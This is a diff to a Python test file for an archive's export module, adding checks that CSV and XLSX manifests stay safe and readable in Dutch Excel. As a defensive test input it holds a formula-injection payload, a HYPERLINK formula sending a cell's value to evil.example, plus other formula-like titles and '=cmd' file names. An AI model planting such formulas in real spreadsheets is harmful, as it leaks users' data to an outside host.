@@ -1,4 +1,5 @@
-"""Exports: readable archive names, manifest rows, CSV/JSON and a ZIP written to a stream that cannot seek."""
+"""Exports: readable archive names, manifest rows, CSV/XLSX/JSON and a ZIP written to a stream that cannot
+seek; CSV that Dutch Excel opens and that no spreadsheet reads as formulas."""
 from __future__ import annotations
 
 import csv
@@ -14,7 +15,29 @@ from reportlab.pdfgen import canvas
 
 from archive import Catalog, OriginalStore
 from archive.store import sha256_file
-from indexer.export import archive_name, iter_zip, manifest_rows, write_csv, write_json, write_zip
+from indexer.export import COLUMNS, archive_name, iter_zip, manifest_rows, write_csv, write_json, write_xlsx, write_zip
+from indexer.ingest.manifest import Manifest
+
+BOM = "\ufeff".encode("utf-8")
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")'
+
+
+def read_as_excel(data: bytes) -> list[dict]:
+    """What Dutch Excel does on a double-click: UTF-8 only when the file starts with a byte-order
+    mark (else the ANSI code page), ';' as the list separator of the Dutch locale."""
+    assert data.startswith(BOM), "without a BOM Excel reads UTF-8 as cp1252: 'SkarsterlÃ¢n'"
+    text = data.decode("utf-8-sig")
+    assert text.split("\r\n", 1)[0].startswith("id;sha256;archive_name;")
+    return list(csv.DictReader(io.StringIO(text), delimiter=";"))
+
+
+def read_xlsx(data: bytes) -> list[dict]:
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(data)).active
+    header, *rows = sheet.iter_rows()
+    names = [cell.value for cell in header]
+    return [{name: cell for name, cell in zip(names, row)} for row in rows]
 
 
 def make_pdf(path: Path, lines: list[str]) -> Path:
@@ -123,9 +146,9 @@ def test_manifest_rows_follow_the_given_order(archive):
 def test_csv_and_json_carry_the_same_rows(archive):
     catalog, _store, ids, _inbox = archive
     rows = manifest_rows(catalog, list(ids.values()))
-    text = io.StringIO()
+    text = io.StringIO(newline="")
     write_csv(text, rows)
-    parsed = list(csv.DictReader(io.StringIO(text.getvalue())))
+    parsed = read_as_excel(text.getvalue().encode("utf-8"))
     assert [r["id"] for r in parsed] == [r["id"] for r in rows]
     assert parsed[0]["municipalities"] == "GM1774;GM0183"
     assert parsed[0]["title"] == "Mandaatbesluit Dinkelland 2013"
@@ -163,12 +186,14 @@ def test_zip_on_a_stream_holds_originals_byte_for_byte_and_manifests(archive):
         assert result.testzip() is None
         names = result.namelist()
         manifest = json.loads(result.read("manifest.json"))
-        assert names[:2] == ["manifest.csv", "manifest.json"]
-        assert names[2:] == [row["archive_name"] for row in manifest]
+        assert names[:3] == ["manifest.csv", "manifest.xlsx", "manifest.json"]
+        assert names[3:] == [row["archive_name"] for row in manifest]
         for row in manifest:
             assert hashlib.sha256(result.read(row["archive_name"])).hexdigest() == row["sha256"]
-        csv_rows = list(csv.DictReader(io.StringIO(result.read("manifest.csv").decode("utf-8"))))
+        csv_rows = read_as_excel(result.read("manifest.csv"))
         assert [r["archive_name"] for r in csv_rows] == [r["archive_name"] for r in manifest]
+        xlsx_rows = read_xlsx(result.read("manifest.xlsx"))
+        assert [r["archive_name"].value for r in xlsx_rows] == [r["archive_name"] for r in manifest]
 
 
 def test_zip_streams_in_pieces_and_survives_a_missing_original(archive, tmp_path):
@@ -180,8 +205,85 @@ def test_zip_streams_in_pieces_and_survives_a_missing_original(archive, tmp_path
     with zipfile.ZipFile(io.BytesIO(b"".join(chunks))) as result:
         manifest = json.loads(result.read("manifest.json"))
         assert [r["id"] for r in manifest] == [ids["pdf"], ids["docx"]]
-        assert len(result.namelist()) == 3  # the manifests and the one original that still exists
+        assert len(result.namelist()) == 4  # the manifests and the one original that still exists
     out = tmp_path / "export.zip"
     with open(out, "wb") as handle:
         write_zip(handle, catalog, store, [ids["pdf"]])
     assert zipfile.is_zipfile(out)
+
+
+@pytest.fixture
+def hostile(tmp_path):
+    """A catalog whose titles and file names start like spreadsheet formulas, and a Frisian place name."""
+    tmp_path = tmp_path / "hostile"
+    catalog = Catalog(tmp_path / "data" / "catalog.sqlite3")
+    store = OriginalStore(tmp_path / "data" / "originals")
+    inbox = tmp_path / "in"
+    inbox.mkdir(parents=True)
+    titles = [HOSTILE_TITLE, "+31 20 123", "-2+3", "@SUM(A1)", "\tTab", "'=al eens beschermd", "Skarsterlân"]
+    ids = []
+    for number, title in enumerate(titles):
+        path = inbox / f"doc{number}.txt"
+        path.write_text(f"Document {number} over Skarsterlân", encoding="utf-8")
+        ids.append(archive_file(catalog, store, path, detected={"title": {"value": title}},
+                                arrived_as=[str(inbox / f"=cmd{number}.txt")]))
+    yield catalog, ids, titles
+    catalog.close()
+
+
+def test_csv_cells_that_start_like_formulas_are_text_in_every_dialect(hostile):
+    catalog, ids, titles = hostile
+    rows = manifest_rows(catalog, ids)
+    for dialect, separator in (("excel", ";"), ("rfc4180", ",")):
+        text = io.StringIO(newline="")
+        write_csv(text, rows, dialect)
+        data = text.getvalue().encode("utf-8")
+        assert data.startswith(BOM) == (dialect == "excel")
+        parsed = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=separator))
+        shown = [r["title"] for r in parsed]
+        assert shown[:6] == ["'" + title for title in titles[:6]]
+        assert shown[6] == "Skarsterlân"
+        for row in parsed:
+            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+            assert row["filenames"].startswith("'=cmd")
+
+
+def test_xlsx_holds_the_exact_values_as_text_cells(hostile):
+    catalog, ids, titles = hostile
+    out = io.BytesIO()
+    write_xlsx(out, manifest_rows(catalog, ids))
+    rows = read_xlsx(out.getvalue())
+    assert list(rows[0]) == COLUMNS
+    assert [r["title"].value for r in rows] == titles
+    assert all(r["title"].data_type == "s" for r in rows), "a formula cell would be data_type 'f'"
+    assert rows[0]["size"].data_type == "n" and rows[0]["size"].value > 0
+
+
+def test_our_exported_manifest_is_read_back_as_a_metadata_manifest(archive, hostile, tmp_path):
+    catalog, _store, ids, _inbox = archive
+    hostile_catalog, hostile_ids, titles = hostile
+    for name, (source, wanted) in {"excel.csv": (catalog, list(ids.values())),
+                                   "hostile.csv": (hostile_catalog, hostile_ids)}.items():
+        rows = manifest_rows(source, wanted)
+        path = tmp_path / name
+        with open(path, "w", encoding="utf-8", newline="") as out:
+            write_csv(out, rows)
+        manifest = Manifest.load(path)
+        assert [row.target for row in manifest.rows] == [row["archive_name"] for row in rows]
+        # (supplied values are stripped of surrounding white space, as any manifest value is)
+        assert [row.values.get("title") for row in manifest.rows] == [row["title"].strip() for row in rows]
+    mandaat = Manifest.load(tmp_path / "excel.csv").rows[0].values
+    assert [m["code"] for m in mandaat["municipalities"]] == ["GM1774", "GM0183"]
+    assert mandaat["type"] == "mandaatbesluit" and mandaat["issuer"] == "GM1774"
+
+
+def test_manifest_separator_is_told_by_the_header_not_guessed(tmp_path):
+    # Sniffer took ';' for the separator of this valid comma-separated file (the cells hold more ';').
+    path = tmp_path / "metadata.csv"
+    path.write_text('file,municipalities,title\r\na.pdf,"GM1774;GM0183;GM0189","Besluit; deel 1; bijlage"\r\n',
+                    encoding="utf-8")
+    row = Manifest.load(path).rows[0]
+    assert row.target == "a.pdf" and row.values["title"] == "Besluit; deel 1; bijlage"
+    path.write_text("\ufefffile;title\r\nb.pdf;Sociaal statuut, versie 2\r\n", encoding="utf-8")
+    row = Manifest.load(path).rows[0]
+    assert row.target == "b.pdf" and row.values["title"] == "Sociaal statuut, versie 2"
